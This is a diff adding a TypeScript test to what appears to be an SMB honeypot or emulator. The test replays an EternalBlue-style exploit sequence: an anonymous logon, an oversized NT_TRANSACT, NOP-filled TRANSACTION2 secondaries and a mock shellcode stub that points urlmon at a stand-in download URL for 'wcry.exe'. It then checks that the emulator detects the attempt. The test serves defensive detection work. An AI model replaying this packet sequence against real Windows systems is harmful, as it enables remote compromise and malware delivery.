@@ -137,6 +137,39 @@ test("nmap's MS08-067 check gets the vulnerable answer, byte for byte", () => {
   assert.ok(events.some((e) => e.type === 'rpc.request' && (e.payload as { operation?: string }).operation === 'NetprPathCompare'));
 });
 
+test('EternalBlue: an NT_TRANSACT continued by TRANSACTION2 secondaries is recognised and its data analysed', async () => {
+  const { session, events } = newSession();
+  one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
+  // A non-extended-security anonymous logon (empty LM and NT responses), as EternalBlue does.
+  const ss = new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(4356).u16le(10).u16le(0).u32le(0).u16le(0).u16le(0).u32le(0).u32le(0x40).finish();
+  const logon = one(session, req(0x73, ss, Buffer.from('\0\0Windows 2000 2195\0Windows 2000 5.0\0', 'latin1')));
+  assert.equal(logon.header.status, 0);
+  const uid = logon.header.uid;
+  const tid = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\127.0.0.1\\IPC$\0?????\0', 'latin1'), { uid })).header.tid;
+  const total = 0x10fe8;
+  const first = new Uint8Array(0x3d0).fill(0x41);
+  const nt = new ByteWriter(64).u8(1).u16le(0).u32le(30).u32le(total).u32le(30).u32le(0).u32le(0).u32le(0).u32le(first.length).u32le(32 + 1 + 40 + 2).u8(1).u16le(0).u16le(0).finish();
+  const interim = one(session, req(0xa0, nt, first, { uid, tid, mid: 64 }));
+  assert.equal(interim.header.status, 0, 'an interim response, as srv.sys sends');
+  const body = Buffer.concat([Uint8Array.of(0xe8, 0, 0, 0, 0, 0x5d), Buffer.from('urlmon\0http://192.0.2.10/wcry.exe\0', 'latin1')]);
+  let sent = first.length;
+  while (sent < total) {
+    const n = Math.min(4000, total - sent);
+    const chunk = new Uint8Array(n).fill(0x90);
+    if (sent + n >= total) chunk.set(body, n - body.length - 4);
+    const w = new ByteWriter(32).u16le(30).u16le(total & 0xffff).u16le(0).u16le(0).u16le(0).u16le(n).u16le(32 + 1 + 18 + 2).u16le(sent).u16le(0).finish();
+    const out = session.handle(req(0x33, w, chunk, { uid, tid, mid: 64 }));
+    assert.equal(out.replies.length, 0, 'secondaries get no answer');
+    sent += n;
+  }
+  await new Promise((r) => setTimeout(r, 20));
+  const eb = events.filter((e) => e.type === 'exploit.attempt' && (e.payload as { name?: string }).name === 'EternalBlue');
+  assert.equal(eb.length, 2, 'the mismatched secondary, then the collected overflow data');
+  assert.match(String((eb[1]!.payload as { detail?: string }).detail), /overflow transaction data/);
+  const sc = events.find((e) => e.type === 'shellcode.detected');
+  assert.deepEqual((sc?.payload as { urls?: string[] }).urls, ['http://192.0.2.10/wcry.exe']);
+});
+
 test('random SMB1 and SMB2 messages into a negotiated session never throw, and replies stay bounded', () => {
   const smb1Cmds = [0x04, 0x06, 0x25, 0x26, 0x2b, 0x2e, 0x2f, 0x32, 0x33, 0x71, 0x72, 0x73, 0x74, 0x75, 0xa0, 0xa1, 0xa2, 0x99];
   fc.assert(
